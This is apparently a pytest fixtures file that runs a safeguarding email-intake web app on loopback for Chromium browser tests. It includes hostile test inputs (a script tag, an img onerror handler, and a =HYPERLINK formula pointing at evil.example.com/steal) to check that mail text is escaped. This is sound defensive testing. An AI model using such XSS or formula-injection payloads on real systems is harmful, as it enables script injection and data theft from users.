"""Fixtures for the browser tests: the real app served on loopback over a database filled by
real agency emails, and one Chromium for the module.

    from tests.e2e import browser_kit

    site = browser_kit.site            # the fixtures, by name, in the test module
    browser = browser_kit.browser

    def test_something(site, browser):
        page = site.page(browser, "business_unit")     # a signed-in page (its own context)
        page.goto(site.url(f"/queue/{site.items['no_case']}"))

(Imported rather than named in ``pytest_plugins``: the test module imports this module's
constants too, and a plugin imported first cannot have its asserts rewritten.)

``site`` (module): a Site. The service (intake.service.Service, SQLite in tmp, a FakeMailbox
and the Maildir outbox) is fed emails that open one exception item of each reason, plus a few
spares (``Site.items``: label -> item id, the labels being the reasons' values and "hostile"
"spare" and "long_subject"; ``Site.originals``: label -> the name and bytes of its email's first attachment;
``Site.raws``: label -> the email); the web app is built by intake's composition root (intake.webapp.build_web) and
served by uvicorn in a thread on a free 127.0.0.1 port; users of each role are added as
`intake users add` adds them. ``browser`` (module): Debian's Chromium driven by Playwright;
when /usr/bin/chromium is missing the test fails in CI and is skipped elsewhere.

Invented people and example domains only (tests/fixtures/mail.py).
"""

from __future__ import annotations

import datetime as dt
import email
import io
import os
import shutil
import socket
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from email import policy
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, sync_playwright
from sqlmodel import select

from core.cases import CaseKind, ExceptionReason
from intake.mailboxes.fake import FakeMailbox
from intake.outbox import MaildirTransport
from intake.service import Service
from intake.settings import DatabaseSettings, ScreeningSettings, ServiceSettings, Settings, WebSettings
from intake.users import add as add_user
from intake.webapp import build_web, make_server
from storage.db import sqlite_url
from storage.models import OutboxItem
from storage.uow import UnitOfWork
from tests.fixtures import hostile, mail
from tests.fixtures.filler import fill, filled_document
from tests.fixtures.sample import (
    CASE_REFERENCE,
    CHILD_DOB,
    CHILD_NAME,
    FIXTURE_AGENCIES,
    complete_values,
    fixture_context,
)
from tests.services import unavailable

REPO = Path(__file__).resolve().parents[2]
CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
AXE = REPO / "web" / "node_modules" / "axe-core" / "axe.min.js"
ARTIFACTS = REPO / "tests" / "artifacts"
SCREENSHOTS = REPO / "docs" / "screenshots"
PASSWORD = "correct horse battery staple"
RECEIVED = dt.datetime(2026, 3, 2, 9, 0, tzinfo=dt.UTC)

#: the cases the emails name: C1 the fixture case (Child A), a case for another child (the
#: conflict names it), and references that name no case
CONFLICT_REFERENCE = "SSCP-2025-031"
NO_SUCH_REFERENCE = "SSCP-2025-099"
SPARE_REFERENCE = "SSCP-2025-097"
HOSTILE_REFERENCE = "SSCP-2025-098"
OTHER_CHILD = ("Child B", "2013-02-03")

#: text from mail that must stay text: script, an element with a handler, markup, a formula
SCRIPT = '<script>alert("subject")</script>'
IMAGE = "<img src=x onerror=alert('image')>"
MARKUP = "<b>bold</b><i>italic</i>"
FORMULA = '=HYPERLINK("http://evil.example.com/steal","Open")'
HOSTILE_SUBJECT = f"{HOSTILE_REFERENCE} {SCRIPT} {IMAGE} {MARKUP} {FORMULA}"
#: no "/" (a filename is cut at the last one)
HOSTILE_FILENAME = '=HYPERLINK("evil.example.com","x") <img src=x onerror=alert(\'file\')> <b>notes.docx'
HOSTILE_VALUE = f"{IMAGE} {SCRIPT} {MARKUP} {FORMULA}"
#: a subject longer than a header line (folded when sent, after "Investigation"), naming no case
LONG_SUBJECT = (
    "SSCP-2025-096 chronology from the Public Protection Investigation Unit for the rapid review "
    "the partnership asked for in March"
)
#: words of it on both sides of the fold
ACROSS_THE_FOLD = "Public Protection Investigation Unit"
#: the note typed by the person (it reaches the preview, the item and the audit trail)
HOSTILE_NOTE = f"Opened for review {IMAGE} {FORMULA}"


@dataclass
class Site:
    base_url: str
    service: Service
    #: label -> exception item id (each reason's value, "hostile", "spare", "long_subject")
    items: dict[str, int]
    #: label -> (file name, bytes) of the email's first attachment, as sent
    originals: dict[str, tuple[str, bytes]]
    #: label -> the email as delivered
    raws: dict[str, bytes]
    #: role -> email address
    users: dict[str, str]
    _states: dict[str, Any] = field(default_factory=dict)

    def url(self, path: str) -> str:
        return self.base_url + path

    def sign_in(self, page: Page, role: str) -> None:
        """Sign in through the GOV.UK sign-in page as the user of ``role``."""
        page.goto(self.url("/sign-in"))
        page.get_by_label("Email address", exact=True).fill(self.users[role])
        page.get_by_label("Password", exact=True).fill(PASSWORD)
        page.get_by_role("button", name="Sign in").click()
        page.wait_for_load_state()
        assert "/sign-in" not in page.url, page.url

    def page(self, browser: Browser, role: str | None = None, **options: Any) -> Page:
        """A new page in its own context, signed in as ``role`` (once per role and module: the
        session's cookies are kept and given to later contexts)."""
        if role is not None and role not in self._states:
            context = browser.new_context()
            self.sign_in(context.new_page(), role)
            self._states[role] = context.storage_state()
            context.close()
        state = self._states[role] if role is not None else None
        context = browser.new_context(storage_state=state, **options)
        context.set_default_timeout(10_000)
        return context.new_page()

    def action_replies(self, item_id: int) -> list[str]:
        """The plain-text bodies of the replies an action on the item wrote to the outbox."""
        with UnitOfWork(self.service.engine) as uow:
            raws = [r.raw for r in uow.session.exec(select(OutboxItem).where(OutboxItem.exception_item_id == item_id))]
        return [body_of(raw) for raw in raws]

    def automatic_reply(self, item_id: int) -> str | None:
        with UnitOfWork(self.service.engine) as uow:
            item = uow.queue.get(item_id)
            assert item is not None
            reply = uow.outbox.for_message(item.message_row_id)
            return body_of(reply.raw) if reply is not None else None

    def item_status(self, item_id: int) -> str:
        with UnitOfWork(self.service.engine) as uow:
            item = uow.queue.get(item_id)
            assert item is not None
            return item.status


def body_of(raw: bytes) -> str:
    msg = email.message_from_bytes(raw, policy=policy.default)
    part = msg.get_body(preferencelist=("plain",))
    assert part is not None
    return str(part.get_content()).replace("\r\n", "\n")


def first_attachment(raw: bytes) -> tuple[str, bytes]:
    msg = email.message_from_bytes(raw, policy=policy.default)
    part = next(msg.iter_attachments())
    return str(part.get_filename()), bytes(part.get_payload(decode=True))


# -- the emails ----------------------------------------------------------------------------------


def unknown_sender_email() -> bytes:
    """The NCA's summary report for the fixture case, from a sender outside the registry."""
    _, data = filled_document("agency_summary")
    return mail.agency_email(
        sender=mail.UNKNOWN.formatted,
        subject=f"{CASE_REFERENCE} Agency summary report",
        body="Please find attached our report, sent from our new service address.",
        attachments=[("Agency summary report.docx", data)],
        date=mail.DATE + dt.timedelta(minutes=1),
    )


def unrecognised_email() -> bytes:
    """GMP's covering notes as a Word file that is no catalogue form."""
    return mail.agency_email(
        sender=mail.PEOPLE["gmp"].formatted,
        subject=f"{CASE_REFERENCE} GMP notes",
        body="Please see our notes attached.",
        attachments=[("GMP notes.docx", hostile.plain_docx())],
        date=mail.DATE + dt.timedelta(minutes=2),
    )


def hostile_email() -> bytes:
    """A referral from Education whose subject, file name and values carry script, markup and
    a formula, naming a case that does not exist (so it waits in the queue as "no case")."""
    values = complete_values("referral")
    values["child_name"] = f"Child H {IMAGE}"
    values["referrer_name"] = HOSTILE_VALUE
    values["referrer_role"] = HOSTILE_VALUE
    data = fill(fixture_context().catalogue.get("referral"), values)
    return mail.agency_email(
        sender=mail.PEOPLE["education"].formatted,
        subject=HOSTILE_SUBJECT,
        body=f"Please see the attached referral. {SCRIPT}",
        attachments=[(HOSTILE_FILENAME, data)],
        date=mail.DATE + dt.timedelta(minutes=3),
    )


def long_subject_email() -> bytes:
    """GMP's chronology under a subject long enough to be folded across header lines."""
    return mail.agency_email(
        sender=mail.PEOPLE["gmp"].formatted,
        subject=LONG_SUBJECT,
        body="Please find attached our chronology.",
        attachments=[("Chronology for the review.xlsx", filled_document("chronology", without=("case_reference",))[1])],
        date=mail.DATE + dt.timedelta(minutes=4),
    )


REASONS = tuple(reason.value for reason in ExceptionReason)


def open_case(service: Service, reference: str, child: tuple[str, str] = (CHILD_NAME, CHILD_DOB)) -> None:
    with UnitOfWork(service.engine) as uow:
        uow.cases.create(
            CaseKind.RAPID_REVIEW,
            child[0],
            dt.date.fromisoformat(child[1]),
            dt.date(2025, 9, 1),
            RECEIVED,
            reference=reference,
        )
        uow.commit()


def queue_faulty(service: Service, inbox: FakeMailbox, raw: bytes) -> None:
    """Process ``raw`` with filing broken (a bug) until the pipeline gives up and queues it
    as a processing fault; filing works again afterwards."""

    def broken(*args: Any, **kwargs: Any) -> None:
        raise RuntimeError("a bug")

    inbox.add(raw, RECEIVED)
    pipeline: Any = service.pipeline
    pipeline._apply = broken
    try:
        service.pipeline.poll(inbox)
        for _ in range(10):  # each attempt fails; the pipeline queues it after a few
            service.pipeline.process_pending()
            with UnitOfWork(service.engine) as uow:
                if any(i.reason == ExceptionReason.PROCESSING_FAULT for i in uow.queue.list_open()):
                    return
        raise AssertionError("the pipeline never gave up on the faulty email")
    finally:
        del pipeline._apply  # the class's method again


def fill_mailbox(
    service: Service, inbox: FakeMailbox
) -> tuple[dict[str, int], dict[str, tuple[str, bytes]], dict[str, bytes]]:
    """Cases and emails that open one item of each exception reason, and spares."""
    open_case(service, CASE_REFERENCE)
    open_case(service, CONFLICT_REFERENCE, OTHER_CHILD)
    emails: dict[str, bytes] = {
        "unknown_sender": unknown_sender_email(),
        "no_case": mail.reference_email(NO_SUCH_REFERENCE),
        "case_conflict": mail.reference_email(CONFLICT_REFERENCE),
        "possible_duplicate": mail.good_form_email("referral"),
        "unrecognised_document": unrecognised_email(),
        "unsafe_file": mail.hostile_email(),
        "no_attachment": mail.covering_email(),
        "hostile": hostile_email(),
        "spare": mail.reference_email(SPARE_REFERENCE),
        "long_subject": long_subject_email(),
    }
    filed = [mail.good_form_email("agency_summary"), mail.good_form_email("declaration_of_interest")]
    for raw in (*filed, *emails.values()):
        inbox.add(raw, RECEIVED)
    service.cycle()
    fault = mail.good_form_email("chronology")
    queue_faulty(service, inbox, fault)
    service.cycle()
    emails["processing_fault"] = fault

    with UnitOfWork(service.engine) as uow:
        open_items = {}
        for item in uow.queue.list_open():
            message = uow.messages.get(item.message_row_id)
            assert message is not None and item.id is not None
            open_items[message.message_id or ""] = (item.id, item.reason)
    items: dict[str, int] = {}
    originals: dict[str, tuple[str, bytes]] = {}
    for label, raw in emails.items():
        message_id = str(email.message_from_bytes(raw, policy=policy.default)["Message-ID"])
        assert message_id in open_items, f"{label}: its email opened no item"
        items[label], reason = open_items[message_id]
        if label in REASONS:
            assert label == reason, f"{label}: queued as {reason}"
        if label != "no_attachment":
            originals[label] = first_attachment(raw)
    return items, originals, emails


def add_users(settings: Settings) -> dict[str, str]:
    """One user of each role, added as `intake users add EMAIL --role ROLE` adds them (the
    password piped on standard input)."""
    users = {
        "admin": "ada.admin@partnership.example.org",
        "business_unit": "morgan.clerk@partnership.example.org",
        "viewer": "vic.viewer@partnership.example.org",
    }
    for role, address in users.items():
        add_user(settings, address, role, stdin=io.StringIO(PASSWORD + "\n"), out=io.StringIO())
    return users


# -- serving -------------------------------------------------------------------------------------


def free_socket() -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("127.0.0.1", 0))
    return sock


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    root = tmp_path_factory.mktemp("browser")
    sock = free_socket()
    port = sock.getsockname()[1]
    settings = Settings(
        service=ServiceSettings(data_dir=str(root / "var")),
        database=DatabaseSettings(url=sqlite_url(root)),
        screening=ScreeningSettings(trusted_authserv_ids=(mail.AUTHSERV_ID,)),
        web=WebSettings(host="127.0.0.1", port=port),
        agencies=FIXTURE_AGENCIES.agencies,
    )
    inbox = FakeMailbox()
    service = Service.build(settings, mailboxes=[inbox], transport=MaildirTransport(root / "outbox"))
    server = None
    thread = None
    try:
        items, originals, raws = fill_mailbox(service, inbox)
        users = add_users(settings)
        server = make_server(build_web(service), settings)
        thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, name="web", daemon=True)
        thread.start()
        deadline = time.monotonic() + 15
        while not server.started:
            if not thread.is_alive() or time.monotonic() > deadline:
                pytest.fail("the web app did not start on 127.0.0.1")
            time.sleep(0.02)
        yield Site(f"http://127.0.0.1:{port}", service, items, originals, raws, users)
    finally:
        if server is not None and thread is not None:
            server.should_exit = True
            thread.join(10)
        sock.close()
        service.close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    if not CHROMIUM.is_file():
        unavailable("Chromium", f"not installed at {CHROMIUM} (apt-get install chromium)")
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            yield launched
        finally:
            launched.close()


def save_screenshot(page: Page, name: str) -> Path:
    """The page as a PNG in tests/artifacts/ (every run); copied to docs/screenshots/ for the
    README only when UPDATE_SCREENSHOTS=1 (the pages show the time: every run differs)."""
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    path = ARTIFACTS / f"{name}.png"
    page.screenshot(path=str(path), full_page=True)
    if os.environ.get("UPDATE_SCREENSHOTS") == "1":
        SCREENSHOTS.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(path, SCREENSHOTS / f"{name}.png")
    return path
